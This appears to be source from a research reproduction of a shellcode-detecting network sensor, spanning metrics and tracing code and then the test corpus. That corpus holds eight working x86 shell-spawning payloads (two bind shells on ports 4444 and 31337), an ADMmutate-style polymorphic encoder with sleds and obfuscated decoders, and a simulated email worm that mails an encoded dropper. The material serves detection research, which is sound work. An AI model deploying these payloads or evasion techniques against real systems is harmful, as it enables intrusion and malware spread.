        """JSON-serializable snapshot of every metric."""
        out: dict = {"schema": self.SNAPSHOT_SCHEMA,
                     "counters": [], "gauges": [], "histograms": []}
        for metric in self.metrics():
            entry = {"name": metric.name, "labels": metric.labels,
                     "unit": metric.unit, "help": metric.help}
            if isinstance(metric, Histogram):
                entry.update(buckets=list(metric.edges),
                             counts=list(metric.counts),
                             sum=metric.sum, count=metric.count)
                out["histograms"].append(entry)
            elif isinstance(metric, Gauge):
                entry["value"] = metric.value
                out["gauges"].append(entry)
            else:
                entry["value"] = metric.value
                out["counters"].append(entry)
        return out

    def to_json(self, indent: int | None = 2) -> str:
        return json.dumps(self.snapshot(), indent=indent)

    def to_prometheus(self) -> str:
        """Prometheus text exposition format (version 0.0.4)."""
        lines: list[str] = []
        seen_header: set[str] = set()
        for metric in self.metrics():
            if metric.name not in seen_header:
                seen_header.add(metric.name)
                if metric.help:
                    lines.append(f"# HELP {metric.name} {metric.help}")
                lines.append(f"# TYPE {metric.name} {metric.kind}")
            label_str = _format_labels(metric.labels)
            if isinstance(metric, Histogram):
                cumulative = 0
                for edge, count in zip(metric.edges, metric.counts):
                    cumulative += count
                    le = _format_labels({**metric.labels, "le": repr(edge)})
                    lines.append(f"{metric.name}_bucket{le} {cumulative}")
                le = _format_labels({**metric.labels, "le": "+Inf"})
                lines.append(f"{metric.name}_bucket{le} {metric.count}")
                lines.append(f"{metric.name}_sum{label_str} {metric.sum!r}")
                lines.append(f"{metric.name}_count{label_str} {metric.count}")
            else:
                lines.append(f"{metric.name}{label_str} {metric.value!r}")
        return "\n".join(lines) + "\n"

    # -- worker deltas -------------------------------------------------------

    def collect_delta(self) -> dict:
        """Changes since the previous ``collect_delta`` call, as plain
        picklable data.  Metrics with no change are omitted."""
        counters: list[tuple] = []
        gauges: list[tuple] = []
        histograms: list[tuple] = []
        for metric in self.metrics():
            key = _labels_key(metric.labels)
            if isinstance(metric, Counter):
                diff = metric.value - metric._last
                if diff:
                    counters.append((metric.name, key, diff,
                                     metric.help, metric.unit))
                metric._last = metric.value
            elif isinstance(metric, Histogram):
                if metric.count != metric._last_count:
                    counts = [c - l for c, l in
                              zip(metric.counts, metric._last_counts)]
                    histograms.append((metric.name, key, metric.edges,
                                       counts, metric.sum - metric._last_sum,
                                       metric.help, metric.unit))
                    metric._last_counts = list(metric.counts)
                    metric._last_sum = metric.sum
                    metric._last_count = metric.count
            else:  # gauge: ship the current value, merge is last-writer-wins
                gauges.append((metric.name, key, metric.value,
                               metric.help, metric.unit))
        return {"counters": counters, "gauges": gauges,
                "histograms": histograms}

    def merge_delta(self, delta: dict) -> None:
        """Fold a ``collect_delta`` payload (from a worker process) in.

        A delta key the receiving registry has never seen — a worker that
        registered a metric the aggregator did not pre-build — is
        auto-registered and folded like any other, and the event is
        counted in ``repro_obs_merge_unknown_total`` so a schema skew
        between fleet members is visible instead of silently mis-merged.
        """
        for name, labels, diff, help, unit in delta.get("counters", ()):
            self._note_unknown(name, labels)
            self.counter(name, labels=dict(labels), help=help,
                         unit=unit).inc(diff)
        for name, labels, value, help, unit in delta.get("gauges", ()):
            self._note_unknown(name, labels)
            self.gauge(name, labels=dict(labels), help=help,
                       unit=unit).set(value)
        for entry in delta.get("histograms", ()):
            name, labels, edges, counts, sum_diff, help, unit = entry
            self._note_unknown(name, labels)
            hist = self.histogram(name, labels=dict(labels), help=help,
                                  unit=unit, buckets=tuple(edges))
            if hist.edges != tuple(edges):
                raise ValueError(f"histogram {name!r} bucket edges differ")
            for i, c in enumerate(counts):
                hist.counts[i] += c
            hist.sum += sum_diff
            hist.count += sum(counts)

    def _note_unknown(self, name: str, labels) -> None:
        """Count a delta key that the receiver had not registered."""
        if (name, tuple(labels)) in self._metrics:
            return
        self.counter(
            "repro_obs_merge_unknown_total",
            help="Delta keys merged that the receiving registry had not "
                 "registered (auto-registered on arrival).",
            unit="metrics").inc()


def _format_labels(labels: dict[str, str]) -> str:
    if not labels:
        return ""
    inner = ",".join(f'{k}="{v}"' for k, v in sorted(labels.items()))
    return "{" + inner + "}"

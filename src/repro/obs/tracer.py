"""Per-stage span tracing.

A :class:`Span` is one timed unit of pipeline work — "the extract stage
spent 180 µs over 1460 bytes of stream 10.1.2.3:4711→10.10.0.5:80".
The :class:`Tracer` collects spans either into a bounded in-memory
buffer (benchmarks read them back directly) or streams them as JSON
Lines to a file (``repro-sensor --trace-out``), one object per line, so
a run can be post-processed with nothing fancier than ``jq``.

Tracing is opt-in and separate from metrics: metrics are always-on
aggregates (cheap, fixed cardinality), spans are per-event records
(cost proportional to traffic) for drilling into *which* payload was
slow.
"""

from __future__ import annotations

import json
import time
from contextlib import contextmanager
from dataclasses import dataclass, field

__all__ = ["Span", "Tracer", "NullTracer", "read_spans", "aggregate_spans"]


@dataclass
class Span:
    """One timed stage execution.  ``attrs`` carries stage-specific
    context (flow endpoints, frame counts, template names)."""

    stage: str
    start: float = 0.0
    duration: float = 0.0
    nbytes: int = 0
    attrs: dict = field(default_factory=dict)

    def to_dict(self) -> dict:
        out = {"stage": self.stage, "start": round(self.start, 9),
               "duration": round(self.duration, 9), "bytes": self.nbytes}
        if self.attrs:
            out["attrs"] = self.attrs
        return out


class Tracer:
    """Collects spans in memory or streams them to a JSONL sink.

    ``max_spans`` bounds the in-memory buffer; once full, further spans
    are counted in :attr:`dropped` instead of stored (a tracer must
    never become the memory flood it is instrumenting).  File-backed
    tracers never buffer, so ``dropped`` stays 0.
    """

    def __init__(self, path: str | None = None, max_spans: int = 100_000,
                 clock=time.perf_counter) -> None:
        self.path = path
        self.max_spans = max_spans
        self.clock = clock
        self.spans: list[Span] = []
        self.emitted = 0
        self.dropped = 0
        self._fh = open(path, "w", encoding="utf-8") if path else None

    @property
    def enabled(self) -> bool:
        return True

    def emit(self, span: Span) -> None:
        self.emitted += 1
        if self._fh is not None:
            self._fh.write(json.dumps(span.to_dict(),
                                      separators=(",", ":")) + "\n")
        elif len(self.spans) < self.max_spans:
            self.spans.append(span)
        else:
            self.dropped += 1

    @contextmanager
    def span(self, stage: str, nbytes: int = 0, **attrs):
        """Time a block; yields the :class:`Span`, finalized on exit.

        The yielded span's ``duration`` is valid *after* the block, so
        callers (the benchmarks) can read their elapsed time from the
        same object the sensor exports — one timing code path.
        """
        s = Span(stage=stage, start=self.clock(), nbytes=nbytes, attrs=attrs)
        try:
            yield s
        finally:
            s.duration = self.clock() - s.start
            self.emit(s)

    def close(self) -> None:
        if self._fh is not None:
            self._fh.close()
            self._fh = None

    def __enter__(self) -> "Tracer":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


class NullTracer(Tracer):
    """The default when tracing is off: ``span()`` costs two clock reads
    and nothing is stored.  ``enabled`` lets hot paths skip building
    ``attrs`` dicts entirely."""

    def __init__(self) -> None:
        super().__init__(path=None, max_spans=0)

    @property
    def enabled(self) -> bool:
        return False

    def emit(self, span: Span) -> None:
        pass

    @contextmanager
    def span(self, stage: str, nbytes: int = 0, **attrs):
        yield _NULL_SPAN


_NULL_SPAN = Span(stage="")


def read_spans(path: str) -> list[Span]:
    """Load a ``--trace-out`` JSONL file back into Span objects."""
    spans = []
    with open(path, encoding="utf-8") as fh:
        for line in fh:
            line = line.strip()
            if not line:
                continue
            obj = json.loads(line)
            spans.append(Span(stage=obj["stage"], start=obj.get("start", 0.0),
                              duration=obj.get("duration", 0.0),
                              nbytes=obj.get("bytes", 0),
                              attrs=obj.get("attrs", {})))
    return spans


def aggregate_spans(spans: list[Span]) -> dict[str, dict]:
    """Fold spans into a per-stage breakdown:
    ``{stage: {calls, seconds, bytes}}`` — what the benchmark report and
    the heartbeat line print."""
    agg: dict[str, dict] = {}
    for span in spans:
        row = agg.setdefault(span.stage,
                             {"calls": 0, "seconds": 0.0, "bytes": 0})
        row["calls"] += 1
        row["seconds"] += span.duration
        row["bytes"] += span.nbytes
    return agg

"""The shellcode corpus for the Table 1 experiment.

Eight behaviourally-equivalent, syntactically-distinct Linux shell-spawning
payloads, two of which bind the shell to a network port (the paper: "All
eight exploits are successfully detected as spawning a shell, while the two
that bind the shell to a different port are also noted as such").

Each entry is written in a different idiom drawn from real published
shellcode: different zero idioms, different ways to materialize the
``execve`` syscall number and the ``/bin//sh`` string, push- vs
store-built strings, setreuid prefixes, and arithmetic constant
obfuscation.  The corpus is the reproduction's substitute for the eight
public remote exploits the authors collected (see DESIGN.md).
"""

from __future__ import annotations

from dataclasses import dataclass

from ..x86.asm import assemble

__all__ = ["ShellcodeSpec", "SHELLCODES", "get_shellcode", "shellcode_names"]

# "/bin" = 0x6e69622f, "//sh" = 0x68732f2f (little-endian dwords).
_BIN = 0x6E69622F
_SSH = 0x68732F2F

# -- the eight payloads -------------------------------------------------------

_CLASSIC = """
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    xor edx, edx
    mov al, 11
    int 0x80
"""

_PUSH_POP = """
    xor edx, edx
    push edx
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push edx
    mov ecx, esp
    push 11
    pop eax
    int 0x80
"""

_STORE_BUILT = """
    xor eax, eax
    push eax
    sub esp, 8
    mov dword ptr [esp], 0x6e69622f
    mov dword ptr [esp + 4], 0x68732f2f
    mov ebx, esp
    xor ecx, ecx
    xor edx, edx
    mov al, 11
    int 0x80
"""

_SUB_ZERO = """
    sub ecx, ecx
    sub edx, edx
    push ecx
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    sub eax, eax
    mov al, 11
    int 0x80
"""

# 0x68732f2f = 0x34391717 + 0x343A1818 ; 0x6e69622f = 0x37343117 + 0x37353118
_ARITH_CONST = """
    xor eax, eax
    push eax
    mov edi, 0x34391717
    add edi, 0x343a1818
    push edi
    mov edi, 0x37343117
    add edi, 0x37353118
    push edi
    mov ebx, esp
    xor ecx, ecx
    xor edx, edx
    mov al, 11
    int 0x80
"""

_SETREUID = """
    xor eax, eax
    xor ebx, ebx
    xor ecx, ecx
    mov al, 70
    int 0x80
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    xor edx, edx
    mov al, 11
    int 0x80
"""

# sockaddr_in {AF_INET, port 4444 (0x115c, network order), INADDR_ANY}
# packed little-endian dword: 02 00 11 5c -> 0x5c110002
_BIND_4444 = """
    ; socket(AF_INET, SOCK_STREAM, 0)
    xor eax, eax
    xor ebx, ebx
    push eax
    push 1
    push 2
    mov ecx, esp
    inc ebx
    mov al, 0x66
    int 0x80
    mov esi, eax

    ; bind(fd, {AF_INET, 4444, 0.0.0.0}, 16)
    xor eax, eax
    push eax
    push eax
    push 0x5c110002
    mov ecx, esp
    push 16
    push ecx
    push esi
    mov ecx, esp
    xor ebx, ebx
    mov bl, 2
    mov al, 0x66
    int 0x80

    ; listen(fd, 1)
    push 1
    push esi
    mov ecx, esp
    xor eax, eax
    mov bl, 4
    mov al, 0x66
    int 0x80

    ; accept(fd, 0, 0)
    xor eax, eax
    push eax
    push eax
    push esi
    mov ecx, esp
    mov bl, 5
    mov al, 0x66
    int 0x80
    mov ebx, eax

    ; dup2(client, 2..0)
    xor ecx, ecx
    mov cl, 3
dup_loop:
    dec ecx
    mov al, 63
    int 0x80
    jnz dup_loop

    ; execve("/bin//sh", 0, 0)
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    xor ecx, ecx
    xor edx, edx
    mov al, 11
    int 0x80
"""

# Port 31337 (0x7a69): network order bytes 7a 69 -> dword 02 00 7a 69 ->
# 0x697a0002.  Different register allocation and push/pop idioms.
_BIND_31337 = """
    ; socket
    xor edx, edx
    push edx
    push 1
    push 2
    mov ecx, esp
    xor ebx, ebx
    inc ebx
    push 0x66
    pop eax
    int 0x80
    mov edi, eax

    ; bind
    push edx
    push edx
    push 0x697a0002
    mov ecx, esp
    push 16
    push ecx
    push edi
    mov ecx, esp
    push 2
    pop ebx
    push 0x66
    pop eax
    int 0x80

    ; listen
    push 1
    push edi
    mov ecx, esp
    push 4
    pop ebx
    push 0x66
    pop eax
    int 0x80

    ; accept
    push edx
    push edx
    push edi
    mov ecx, esp
    push 5
    pop ebx
    push 0x66
    pop eax
    int 0x80
    mov ebx, eax

    ; dup2 x3
    xor ecx, ecx
    mov cl, 3
dup_loop:
    dec ecx
    push 63
    pop eax
    int 0x80
    jnz dup_loop

    ; execve
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    xor edx, edx
    mov al, 11
    int 0x80
"""


@dataclass(frozen=True)
class ShellcodeSpec:
    """Metadata for one corpus entry."""

    name: str
    source: str
    binds_port: bool = False
    port: int | None = None
    description: str = ""

    def assemble(self) -> bytes:
        return assemble(self.source)


SHELLCODES: dict[str, ShellcodeSpec] = {
    spec.name: spec
    for spec in [
        ShellcodeSpec("classic-execve", _CLASSIC,
                      description="push-built /bin//sh, xor zero idiom"),
        ShellcodeSpec("push-pop-execve", _PUSH_POP,
                      description="push/pop materialization of syscall number"),
        ShellcodeSpec("store-built-execve", _STORE_BUILT,
                      description="string built with explicit stack stores"),
        ShellcodeSpec("sub-zero-execve", _SUB_ZERO,
                      description="sub r,r zero idiom variant"),
        ShellcodeSpec("arith-const-execve", _ARITH_CONST,
                      description="string dwords obfuscated as sums"),
        ShellcodeSpec("setreuid-execve", _SETREUID,
                      description="setreuid(0,0) prefix before the spawn"),
        ShellcodeSpec("bind-4444-execve", _BIND_4444, binds_port=True, port=4444,
                      description="full bind shell on port 4444"),
        ShellcodeSpec("bind-31337-execve", _BIND_31337, binds_port=True, port=31337,
                      description="bind shell on 31337, push/pop idioms"),
    ]
}


def get_shellcode(name: str) -> ShellcodeSpec:
    try:
        return SHELLCODES[name]
    except KeyError:
        raise KeyError(
            f"unknown shellcode {name!r}; available: {sorted(SHELLCODES)}"
        ) from None


def shellcode_names() -> list[str]:
    return list(SHELLCODES)

"""Synthetic "Netsky" binaries for the §5.1 timing comparison.

The paper times its pipeline on two Netsky variants (~22 KB of code each,
about 6.5 s per analysis vs. ~40 s for the host-based system of [5]).  The
timing experiment depends only on code *size* and decode/match cost, so we
generate deterministic mass-mailer-shaped x86: many small functions
(prologue, register arithmetic, compares, forward branches, calls,
epilogue) interleaved with ASCII string tables — and, by construction, no
decoder loops or shell spawns, so the sample is template-clean.
"""

from __future__ import annotations

import random

from ..x86.asm import assemble

__all__ = ["netsky_sample", "NETSKY_STRINGS"]

NETSKY_STRINGS = [
    b"MAIL FROM:<%s>\r\n", b"RCPT TO:<%s>\r\n", b"DATA\r\n",
    b"Subject: %s\r\n", b"X-Mailer: MIME-tools", b"base64",
    b"\\WINDOWS\\services.exe", b"SOFTWARE\\Microsoft\\Windows",
    b"CurrentVersion\\Run", b".eml", b".dbx", b".wab", b".htm",
    b"smtp.", b"mx1.", b"@hotmail.com", b"@yahoo.com",
]

_SAFE_REGS = ["eax", "edx", "esi", "edi"]


def _function(rng: random.Random, index: int) -> str:
    """One compiler-shaped function: prologue, body, epilogue."""
    lines = [
        f"f{index}:",
        "push ebp",
        "mov ebp, esp",
        f"sub esp, {rng.choice((8, 16, 24, 32))}",
        "push ebx",
        "push esi",
    ]
    body_len = rng.randrange(8, 28)
    for j in range(body_len):
        kind = rng.randrange(8)
        r = rng.choice(_SAFE_REGS)
        r2 = rng.choice(_SAFE_REGS)
        if kind == 0:
            lines.append(f"mov {r}, dword ptr [ebp - {rng.choice((4, 8, 12))}]")
        elif kind == 1:
            lines.append(f"mov dword ptr [ebp - {rng.choice((4, 8, 12))}], {r}")
        elif kind == 2:
            lines.append(f"add {r}, {rng.randrange(1, 0x1000):#x}")
        elif kind == 3:
            lines.append(f"cmp {r}, {r2}")
            lines.append(f"je f{index}_l{j}")
            lines.append(f"mov {r}, {rng.randrange(1 << 16):#x}")
            lines.append(f"f{index}_l{j}:")
        elif kind == 4:
            lines.append(f"test {r}, {r}")
            lines.append(f"jne f{index}_m{j}")
            lines.append(f"xor {r}, {r}")
            lines.append(f"f{index}_m{j}:")
        elif kind == 5:
            lines.append(f"lea {r}, [ebp - {rng.choice((4, 8, 12, 16))}]")
        elif kind == 6:
            lines.append(f"shl {r}, {rng.randrange(1, 4)}")
        else:
            lines.append(f"movzx {r}, dl")
    lines += [
        "pop esi",
        "pop ebx",
        "mov esp, ebp",
        "pop ebp",
        "ret",
    ]
    return "\n".join(lines)


def netsky_sample(size: int = 22 * 1024, seed: int = 0,
                  string_tables: bool = True) -> bytes:
    """Generate a ~``size``-byte mass-mailer-shaped binary.

    With ``string_tables`` (the default, like a real PE .text/.data mix)
    the disassembler's tolerant frame sweep consumes the code prefix;
    ``string_tables=False`` emits pure code that decodes end to end,
    which the code-size scaling benchmark needs.
    """
    rng = random.Random(seed)
    chunks: list[bytes] = []
    total = 0
    index = 0
    while total < size:
        code = assemble(_function(rng, index))
        chunks.append(code)
        total += len(code)
        index += 1
        if string_tables and index % 12 == 0:
            # sprinkle a string table between function runs
            table = b"\x00".join(rng.sample(NETSKY_STRINGS, 5)) + b"\x00"
            chunks.append(table)
            total += len(table)
    blob = b"".join(chunks)
    if string_tables:
        return blob[:size]
    # Truncating pure code would cut an instruction mid-byte; trim to the
    # last whole function instead.
    out = b""
    for chunk in chunks:
        if len(out) + len(chunk) > size:
            break
        out += chunk
    return out

"""ADMmutate-style polymorphic shellcode engine.

Reproduces the toolkit the paper evaluates in §5.2 [11]: every generated
instance wraps the same payload behaviour in fresh syntax using

- a variable NOP-like sled (drawn from single-byte slide-safe opcodes);
- one of **two decoder families** — the xor loop, and the alternate
  "mov/or/and/not on a single memory-location-register pair" scheme the
  paper discovered during the 68% experiment (Figure 7);
- register reassignment (pointer/key/work registers drawn per instance);
- constant obfuscation (split-add, split-xor, push/pop materialization);
- equivalent instruction substitution (inc vs add 1, mov r,0 vs xor r,r);
- garbage instruction insertion on registers the decoder does not use
  (flag-safety preserved around conditional branches);
- out-of-order code sequencing: the decoder is cut into chunks that are
  emitted shuffled and re-threaded with ``jmp`` instructions.

All randomness flows from an explicit seed, so every instance in the
Table 2 experiment is reproducible.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from ..x86.asm import assemble

__all__ = ["AdmMutateEngine", "MutatedPayload", "SLED_OPCODES"]

# Slide-safe single-byte instructions for sleds.  We exclude inc/dec esp
# (0x44/0x4c) and push esp (0x54) out of politeness to the simulated stack.
SLED_OPCODES: tuple[int, ...] = tuple(
    b for b in (
        [0x90]
        + [x for x in range(0x40, 0x50) if x not in (0x44, 0x4C)]
        + [x for x in range(0x50, 0x58) if x != 0x54]
        + [0x27, 0x2F, 0x37, 0x3F, 0x98, 0xF5, 0xF8, 0xF9, 0xFC]
    )
)

_PTR_REGS = ["esi", "edi", "ebx", "edx"]
_BYTE_OF = {"eax": "al", "ebx": "bl", "ecx": "cl", "edx": "dl"}


@dataclass
class MutatedPayload:
    """One polymorphic instance."""

    data: bytes
    decoder_family: str  # "xor" | "mov-or-and-not"
    key: int
    sled_len: int
    seed: int
    source: str = field(repr=False, default="")

    def __len__(self) -> int:
        return len(self.data)


class AdmMutateEngine:
    """Generates polymorphic instances of a payload."""

    def __init__(
        self,
        seed: int = 0,
        sled_range: tuple[int, int] = (32, 96),
        junk_probability: float = 0.4,
        max_chunks: int = 4,
    ) -> None:
        self.seed = seed
        self.sled_range = sled_range
        self.junk_probability = junk_probability
        self.max_chunks = max_chunks

    # -- public -------------------------------------------------------------

    def mutate(self, payload: bytes, instance: int = 0,
               family: str | None = None) -> MutatedPayload:
        """Generate one instance.  ``instance`` seeds per-instance
        randomness; ``family`` forces a decoder family (default: the engine
        picks one of the two at random, like ADMmutate does)."""
        rng = random.Random((self.seed << 20) ^ instance)
        if family is None:
            # ADMmutate prefers its xor scheme; the paper's first pass
            # (xor template only) caught 68% of instances, which is the
            # observed family mix.
            family = "xor" if rng.random() < 0.68 else "mov-or-and-not"
        if family == "xor":
            key = rng.randrange(1, 256)
            encoded = bytes(b ^ key for b in payload)
            body = self._xor_body(rng, key)
        elif family == "mov-or-and-not":
            key = 0  # the alternate scheme is keyless (complement coding)
            encoded = bytes((~b) & 0xFF for b in payload)
            body = self._alt_body(rng)
        else:
            raise ValueError(f"unknown decoder family: {family!r}")

        source = self._decoder_source(rng, body, len(payload))
        decoder = assemble(source)
        sled = self._sled(rng)
        return MutatedPayload(
            data=sled + decoder + encoded,
            decoder_family=family,
            key=key,
            sled_len=len(sled),
            seed=instance,
            source=source,
        )

    def batch(self, payload: bytes, count: int,
              family: str | None = None) -> list[MutatedPayload]:
        return [self.mutate(payload, instance=i, family=family)
                for i in range(count)]

    # -- decoder families ----------------------------------------------------

    def _xor_body(self, rng: random.Random, key: int) -> "_Body":
        """xor decoder: either an immediate key or a key register whose
        value is obfuscated at setup time."""
        ptr = rng.choice(_PTR_REGS)
        body = _Body(ptr=ptr)
        use_reg_key = rng.random() < 0.6
        if use_reg_key:
            key_reg = rng.choice([r for r in ("eax", "ebx", "edx")
                                  if r != ptr])
            body.reserved.add(key_reg)
            body.setup += self._obfuscated_const(rng, key_reg, key)
            key_operand = _BYTE_OF[key_reg]
        else:
            key_operand = f"{key:#x}"
        body.loop.append(f"xor byte ptr [{ptr}], {key_operand}")
        body.loop.append(self._ptr_step(rng, ptr))
        return body

    def _alt_body(self, rng: random.Random) -> "_Body":
        """The Figure 7 decoder: mov/or/and/not on one memory location and
        register pair.  The payload is complement-coded; ``not`` recovers
        it, while or/and identity operations vary the syntax."""
        ptr = rng.choice(_PTR_REGS)
        work = rng.choice([r for r in ("eax", "ebx", "edx") if r != ptr])
        work8 = _BYTE_OF[work]
        body = _Body(ptr=ptr)
        body.reserved.add(work)
        chain = [f"mov {work8}, byte ptr [{ptr}]"]
        identity_ops = [
            f"or {work8}, 0",
            f"and {work8}, 0xff",
            f"or {work8}, {work8}",
            f"and {work8}, {work8}",
        ]
        ops = [f"not {work8}"]
        for _ in range(rng.randrange(1, 3)):
            ops.insert(rng.randrange(len(ops) + 1), rng.choice(identity_ops))
        chain += ops
        chain.append(f"mov byte ptr [{ptr}], {work8}")
        chain.append(self._ptr_step(rng, ptr))
        body.loop += chain
        return body

    # -- assembly-level obfuscation --------------------------------------------

    def _ptr_step(self, rng: random.Random, ptr: str) -> str:
        return rng.choice([f"inc {ptr}", f"add {ptr}, 1"])

    def _obfuscated_const(self, rng: random.Random, reg: str, value: int) -> list[str]:
        """Materialize ``reg = value`` without the literal appearing."""
        style = rng.randrange(4)
        if style == 0:  # split add
            a = rng.randrange(1, 0x7FFFFFFF)
            b = (value - a) & 0xFFFFFFFF
            return [f"mov {reg}, {a:#x}", f"add {reg}, {b:#x}"]
        if style == 1:  # split xor
            a = rng.randrange(1, 0xFFFFFFFF)
            b = value ^ a
            return [f"mov {reg}, {a:#x}", f"xor {reg}, {b:#x}"]
        if style == 2:  # subtract down
            a = (value + 0x1111) & 0xFFFFFFFF
            return [f"mov {reg}, {a:#x}", f"sub {reg}, 0x1111"]
        return [f"push {value:#x}", f"pop {reg}"]  # via the stack

    def _zero(self, rng: random.Random, reg: str) -> str:
        return rng.choice([f"xor {reg}, {reg}", f"sub {reg}, {reg}",
                           f"mov {reg}, 0"])

    def _junk(self, rng: random.Random, free_regs: list[str]) -> list[str]:
        """Garbage instructions that touch only free registers/flags."""
        out: list[str] = []
        while rng.random() < self.junk_probability and len(out) < 4:
            kind = rng.randrange(6)
            if kind == 0 and free_regs:
                r = rng.choice(free_regs)
                out.append(f"mov {r}, {rng.randrange(1 << 31):#x}")
            elif kind == 1 and free_regs:
                r = rng.choice(free_regs)
                out.append(f"add {r}, {rng.randrange(1 << 16):#x}")
            elif kind == 2 and free_regs:
                r = rng.choice(free_regs)
                out.append(f"xor {r}, {rng.randrange(1 << 16):#x}")
            elif kind == 3:
                out.append("nop")
            elif kind == 4:
                out.append(rng.choice(["cld", "clc", "stc", "cmc"]))
            elif kind == 5 and free_regs:
                r = rng.choice(free_regs)
                out.append(f"test {r}, {r}")
        return out

    # -- decoder assembly --------------------------------------------------------

    def _decoder_source(self, rng: random.Random, body: "_Body",
                        payload_len: int) -> str:
        ptr = body.ptr
        used = {ptr, "ecx", "esp"} | body.reserved
        free = [r for r in ("eax", "ebx", "edx", "edi", "esi", "ebp")
                if r not in used]

        # Counter scheme: classic `loop` or dec/jnz.
        use_loop = rng.random() < 0.5

        setup: list[str] = [f"pop {ptr}"]
        setup += body.setup
        if rng.random() < 0.5:
            setup += [f"mov ecx, {payload_len}"]
        else:
            setup += self._obfuscated_const(rng, "ecx", payload_len)

        loop_lines = list(body.loop)
        if use_loop:
            tail = ["loop decode"]
        else:
            tail = ["dec ecx", "jnz decode"]

        # Junk insertion: anywhere in setup; in the loop body only *before*
        # the flag-coupled tail (dec/jnz and loop must stay adjacent, and
        # for dec/jnz no flag-writing junk in between).
        def with_junk(lines: list[str]) -> list[str]:
            out: list[str] = []
            for line in lines:
                out += self._junk(rng, free)
                out.append(line)
            return out

        setup = with_junk(setup)
        loop_lines = with_junk(loop_lines)

        linear = setup + ["decode:"] + loop_lines + tail + ["jmp payload"]

        # Out-of-order sequencing: cut into chunks, shuffle, re-thread.
        chunks = self._chunkify(rng, linear)
        lines = ["jmp getpc"]
        for chunk in chunks:
            lines += chunk
        lines += ["getpc:", "call d_entry", "payload:"]
        return "\n".join(lines)

    def _chunkify(self, rng: random.Random, linear: list[str]) -> list[list[str]]:
        """Split the linear decoder at safe points and shuffle the pieces,
        preserving execution order with jmp threading."""
        n_chunks = rng.randrange(1, self.max_chunks + 1)
        # Safe cut points: not between a label and its successor, not
        # between dec/jnz or the instruction pair feeding a branch.
        safe = [
            i for i in range(1, len(linear))
            if not linear[i - 1].endswith(":")
            and not linear[i].startswith(("jnz", "loop"))
        ]
        cuts = sorted(rng.sample(safe, min(n_chunks - 1, len(safe))))
        pieces: list[list[str]] = []
        prev = 0
        for cut in cuts + [len(linear)]:
            pieces.append(linear[prev:cut])
            prev = cut
        # Label each piece; piece i ends with a jmp to piece i+1's label.
        for i, piece in enumerate(pieces):
            label = "d_entry" if i == 0 else f"d_{i}"
            piece.insert(0, f"{label}:")
            if i + 1 < len(pieces):
                piece.append(f"jmp d_{i + 1}")
        order = list(range(len(pieces)))
        rng.shuffle(order)
        return [pieces[i] for i in order]

    def _sled(self, rng: random.Random) -> bytes:
        lo, hi = self.sled_range
        length = rng.randrange(lo, hi + 1)
        return bytes(rng.choice(SLED_OPCODES) for _ in range(length))


@dataclass
class _Body:
    """Intermediate decoder description produced by a family generator."""

    ptr: str
    setup: list[str] = field(default_factory=list)
    loop: list[str] = field(default_factory=list)
    reserved: set[str] = field(default_factory=set)

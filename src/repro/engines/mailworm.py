"""An email-worm engine (the paper's named future work, built out).

Models a Netsky-class mass mailer at the network level: an infected host
harvests addresses and opens SMTP conversations with many destinations,
each carrying the worm as a base64 attachment.  The attachment is a
mass-mailer-shaped binary (:func:`repro.engines.netsky.netsky_sample`)
with an xor-encoded dropper stub prepended — so the *decoded* attachment
exhibits exactly the decoder-loop behaviour the template library detects
once :mod:`repro.extract.mime` has unpacked it.
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field

from ..net.inet import ip_to_int
from ..net.packet import Packet
from ..net.wire import Host, Wire
from .admmutate import AdmMutateEngine
from .netsky import netsky_sample
from .shellcode import get_shellcode

__all__ = ["MailWormHost", "build_worm_attachment"]

_SUBJECTS = ["hi", "re: your document", "warning", "mail delivery failed",
             "important notice", "details"]


def build_worm_attachment(seed: int = 0, body_size: int = 6 * 1024) -> bytes:
    """The worm binary: an encoded dropper stub + mass-mailer body.

    The stub is a polymorphic xor decoder around a shell-spawning payload
    (the dropper); the body is inert mailer-shaped code/strings.  Every
    byte is deterministic in ``seed`` so campaigns are reproducible.
    """
    engine = AdmMutateEngine(seed=seed ^ 0x5EED, sled_range=(32, 48))
    stub = engine.mutate(get_shellcode("classic-execve").assemble(),
                         instance=seed, family="xor")
    return stub.data + netsky_sample(size=body_size, seed=seed)


@dataclass
class MailWormHost:
    """An infected mass-mailing host."""

    ip: str
    seed: int = 0
    targets_per_burst: int = 12
    relay_net: str = "10.10.1."
    _rng: random.Random = field(init=False, repr=False)

    def __post_init__(self) -> None:
        # ip_to_int, not hash(): str hashes are salted per interpreter
        # (PYTHONHASHSEED), which would make "seeded" traces differ
        # between runs.
        self._rng = random.Random(
            (ip_to_int(self.ip) & 0xFFFF) ^ (self.seed << 8))

    def _message(self, attachment: bytes, victim: str) -> bytes:
        encoded = base64.encodebytes(attachment).decode().replace("\n", "\r\n")
        return (
            f"From: user@{self.ip}\r\nTo: victim@{victim}\r\n"
            f"Subject: {self._rng.choice(_SUBJECTS)}\r\n"
            'MIME-Version: 1.0\r\n'
            'Content-Type: multipart/mixed; boundary="--bnd"\r\n'
            "\r\n----bnd\r\n"
            "Content-Type: text/plain\r\n\r\n"
            "please see the attached file for details.\r\n"
            "----bnd\r\n"
            "Content-Type: application/octet-stream; name=document.pif\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n"
        ).encode() + encoded.encode() + b"\r\n----bnd--\r\n.\r\n"

    def burst(self, wire: Wire, count: int | None = None) -> list[str]:
        """One mailing burst: SMTP sessions to ``count`` distinct relays.

        Returns the relay addresses contacted."""
        host = Host(ip=self.ip, wire=wire)
        attachment = build_worm_attachment(seed=self.seed)
        n = count if count is not None else self.targets_per_burst
        relays = []
        for _ in range(n):
            relay = f"{self.relay_net}{self._rng.randrange(2, 250)}"
            relays.append(relay)
            session = host.open_tcp(relay, 25)
            session.reply(b"220 relay ESMTP\r\n")
            session.send(f"HELO {self.ip}\r\n".encode())
